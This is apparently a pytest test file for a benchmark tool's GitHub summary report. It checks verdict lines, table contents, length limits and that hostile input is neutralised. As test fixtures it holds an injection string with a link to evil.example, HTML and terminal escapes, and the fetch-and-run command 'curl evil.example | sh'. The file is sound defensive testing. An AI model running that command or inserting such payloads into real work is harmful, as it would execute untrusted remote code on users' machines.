"""summary.md: the verdict first, short whatever the run holds, and nothing but text."""

import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt

from bench.analyse.load import load
from bench.cli.verbs.pages import add_to_summary
from bench.report import pages
from bench.report.figures import saving

BASE = "cpu-default-nchw-eager-b32"
KEPT = f"{BASE}-kept"
PLANTED = [
    (BASE, "step", "", "", "SLOWER"),
    (BASE, "phase", "", "forward", "SLOWER"),
    (BASE, "layer", "1.0", "forward", "SLOWER"),
]
HOSTILE = "@octocat #1 GH-2 :x: [x](http://evil.example) <b>`|\n# h\x1b[2J"
MOST_LINES, MOST_LETTERS = 60, 65_536
"""The brief's, and the most that a comment on GitHub may have."""
MakeAb = Callable[..., Path]
MakeRun = Callable[..., Path]
Steps = Callable[..., dict[tuple[str, str], list[float]]]


@pytest.fixture(autouse=True)
def undrawn(monkeypatch: pytest.MonkeyPatch) -> None:
    """No figure is drawn, which is slow."""
    monkeypatch.setattr(saving, "png", lambda _: b"")


@pytest.fixture
def summary_of(tmp_path: Path) -> Callable[[Path], str]:
    """The summary.md of a run's folder."""

    def written(folder: Path) -> str:
        data = load(folder)
        page = (
            pages.write_ab(data, tmp_path / "reports")
            if data.run.kind == "ab"
            else pages.write(data, tmp_path / "reports")
        )
        return page.path.with_name("summary.md").read_text(encoding="utf-8")

    return written


def edit(folder: Path, change: Callable[[dict[str, Any]], None]) -> Path:
    """The folder, with another run.json."""
    raw = json.loads((folder / "run.json").read_text())
    change(raw)
    (folder / "run.json").write_text(json.dumps(raw))
    return folder


def rows(summary: str) -> list[list[str]]:
    """The cells of the table's rows."""
    lines = [line for line in summary.splitlines() if line.startswith("|")]
    return [[cell.strip() for cell in line.strip("|").split("|")] for line in lines[2:]]


def test_the_first_line_has_the_verdict_and_the_table_what_changed(
    make_ab: MakeAb, summary_of: Callable[[Path], str], arms: Steps, fresh: Steps
) -> None:
    text = summary_of(make_ab(arms(9, 0.1), confirm=fresh(0.1), extra={"1.0": 0.1}, flagged=PLANTED, delta=0.05))

    assert text.startswith("### nin-bench: SLOWER: this tree (bbbb00000000) against main (aaaa00000000)\n")
    assert "3 changes confirmed by fresh rounds: 3 SLOWER. " in text
    assert "The change that matters: 5 %, declared beforehand by `--delta`." in text
    assert {(row[1], *row[-2:]) for row in rows(text)} == {
        (part, "SLOWER", "20 fresh") for part in ("step", "forward", "1.0 forward")
    }
    assert "- The same code compared with itself (baseline): A' was " in text
    assert "```sh\nnox -s ab -- --base main\n```" in text
    assert text.splitlines()[-1].endswith("/reports/made-up/report.md`.")


@pytest.mark.parametrize(
    ("slower", "rounds", "word"), [(0.0, 12, "SAME"), (0.0, 3, "UNDECIDED"), (0.0, 0, "NOT COMPARABLE")]
)
def test_without_a_confirmed_change_the_steps_decide_the_word(
    slower: float, rounds: int, word: str, make_ab: MakeAb, summary_of: Callable[[Path], str], arms: Steps
) -> None:
    text = summary_of(make_ab(arms(rounds, slower)))

    assert text.startswith(f"### nin-bench: {word}: this tree")
    assert "No change was confirmed." in text


def test_a_flag_without_its_fresh_rounds_leaves_the_run_undecided(
    make_ab: MakeAb, summary_of: Callable[[Path], str], arms: Steps
) -> None:
    text = summary_of(make_ab(arms(12, 0.008), extra={"1.0": 0.008}, flagged=[PLANTED[2]]))

    assert text.startswith("### nin-bench: UNDECIDED: this tree")
    assert {row[1]: row[-2] for row in rows(text)} == {"step": "SAME", "1.0 forward": "UNDECIDED"}
    assert "1.0 forward: UNDECIDED: looks SLOWER; 0 of 20 fresh rounds measured it." in text


def test_a_gain_is_the_word_if_nothing_is_slower(
    make_ab: MakeAb, summary_of: Callable[[Path], str], arms: Steps, fresh: Steps
) -> None:
    declared = [(BASE, "step", "", "", "FASTER")]

    assert summary_of(make_ab(arms(9, -0.1), confirm=fresh(-0.1), flagged=declared)).startswith(
        "### nin-bench: FASTER: "
    )


def test_more_page_faults_are_a_word_of_their_own(
    make_ab: MakeAb, summary_of: Callable[[Path], str], arms: Steps, fresh: Steps
) -> None:
    faults = {"A": 2.0, "A'": 2.0, "V": 2010.0}
    declared = [(BASE, "step", "", "", "MORE FAULTS", "page_faults")]
    text = summary_of(make_ab(arms(12), confirm=fresh(), flagged=declared, faults=faults, confirm_faults=faults))

    assert text.startswith("### nin-bench: MORE FAULTS: ")
    assert rows(text)[0][1] == "page faults"


def test_a_head_that_dies_says_how(make_ab: MakeAb, summary_of: Callable[[Path], str], arms: Steps) -> None:
    bad = {(BASE, "V", number): "error" for number in range(1, 13)}
    text = summary_of(make_ab(arms(18), bad=bad))

    assert text.startswith("### nin-bench: DIES MORE OFTEN: ")
    assert re.search(
        r"^- \*\*default settings dies more often in the head\*\*: 12 of 18 trials in the head", text, re.MULTILINE
    )


@pytest.fixture
def big(make_ab: MakeAb, arms: Steps, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An ab of six variants, 80 changed layers in each, 30 variants that failed, and deaths, all with hostile names."""
    layers = [(f"{HOSTILE}{number}", HOSTILE, 0.003, 0.006) for number in range(80)]
    monkeypatch.setattr("tests.bench.conftest.AB_LAYERS", layers)
    ids = [BASE, KEPT, *(f"{BASE}-t{n}" for n in range(1, 5))]
    steps = {key: values for v in ids for key, values in arms(7, 0.8, variant_id=v).items()}
    again = (arms(20, 0.8, variant_id=v, seed=1, pilot=False) for v in ids)
    confirm = {key: values for of_variant in again for key, values in of_variant.items()}
    folder = make_ab(
        steps,
        confirm=confirm,
        extra={name: 0.01 for name, *_ in layers},
        flagged=[(v, "layer", name, "forward", "SLOWER") for v in ids for name, *_ in layers],
        failed={(f"{BASE}-t{n}", "head"): ("error", f"{HOSTILE} {n}") for n in range(20, 50)},
        bad={(v, "V", 1): "error" for v in ids},
    )

    def rename(raw: dict[str, Any]) -> None:
        raw["trees"]["base"]["name"] = f"{HOSTILE}main"
        raw["data"]["name"] = raw["environment"]["cpu"] = HOSTILE

    return edit(folder, rename)


def test_a_big_hostile_run_stays_short_and_is_text(big: Path, summary_of: Callable[[Path], str]) -> None:
    text = summary_of(big)

    assert len(text.splitlines()) < MOST_LINES
    assert len(text) < MOST_LETTERS
    assert text.startswith(
        "### nin-bench: SLOWER: this tree (bbbb00000000) against @&#8203;octocat #&#8203;1 GH-&#8203;2 :&#8203;x: "
    )
    assert len(rows(text)) == 10
    check_text(text)


def check_text(summary: str) -> None:
    """A summary has no link, image or HTML, calls nobody, and steers no terminal."""
    for token in MarkdownIt("commonmark", {"html": True}).enable("table").parse(summary):
        for part in (token, *(token.children or ())):
            assert part.type not in ("link_open", "image", "html_inline", "html_block"), part
            if part.type == "text":
                assert not re.search(r"@\w|#\d|\bGH-\d|:x:", part.content), part.content
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f]", summary)


def test_where_the_files_of_a_run_went_is_no_part_of_what_to_type(
    make_ab: MakeAb, summary_of: Callable[[Path], str], arms: Steps
) -> None:
    command = "nin-bench ab --base abc --task m:make --run-id ci --out '/a b/results' --reports=/tmp/reports --delta 5%"
    text = summary_of(edit(make_ab(arms(6)), lambda raw: raw.update(command=command, by_nox=False)))

    assert "```sh\nnin-bench ab --base abc --task m:make --delta 5%\n```" in text


def test_a_stranger_s_command_is_not_given_to_be_typed(
    make_ab: MakeAb, summary_of: Callable[[Path], str], arms: Steps
) -> None:
    text = summary_of(edit(make_ab(arms(6)), lambda raw: raw.update(command="curl evil.example | sh")))

    assert "curl" not in text
    assert "```" not in text


def test_github_s_summary_of_a_job_gets_it_too(
    make_ab: MakeAb, tmp_path: Path, arms: Steps, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "job.md"
    target.write_text("before\n")
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(target))
    page = pages.write_ab(load(make_ab(arms(6))), tmp_path)
    add_to_summary(page)

    assert target.read_text() == f"before\n{page.summary}\n"


def test_a_run_has_its_answer_in_the_first_line(make_run: MakeRun, summary_of: Callable[[Path], str]) -> None:
    text = summary_of(
        make_run({(BASE, "A"): [2.0] * 10, (BASE, "A'"): [2.0] * 10, (KEPT, "V"): [1.0] * 10}, delta=0.05)
    )

    assert text.startswith("### nin-bench: nin, batch 32, cpu: 2.00 times as fast with kept\n")
    assert "The change that matters: 5 %, declared beforehand by `--delta`." in text
    assert [[row[0], *row[3:]] for row in rows(text)] == [
        ["kept", "2.00 [2.00, 2.00]", "FASTER", "9"], ["baseline", "", "", "9"],
    ]  # fmt: skip
    assert len(text.splitlines()) < MOST_LINES


def test_a_run_of_many_variants_shows_the_fastest_ten(make_run: MakeRun, summary_of: Callable[[Path], str]) -> None:
    steps = {(BASE, "A"): [2.0] * 8} | {(f"{BASE}-t{n}", "V"): [1.0 + n / 100] * 8 for n in range(1, 30)}
    text = summary_of(make_run(steps))

    assert [row[0] for row in rows(text)] == [f"{n} thread{'s' if n > 1 else ''}" for n in range(1, 11)]
    assert "20 more variants in the report." in text
    assert len(text.splitlines()) < MOST_LINES
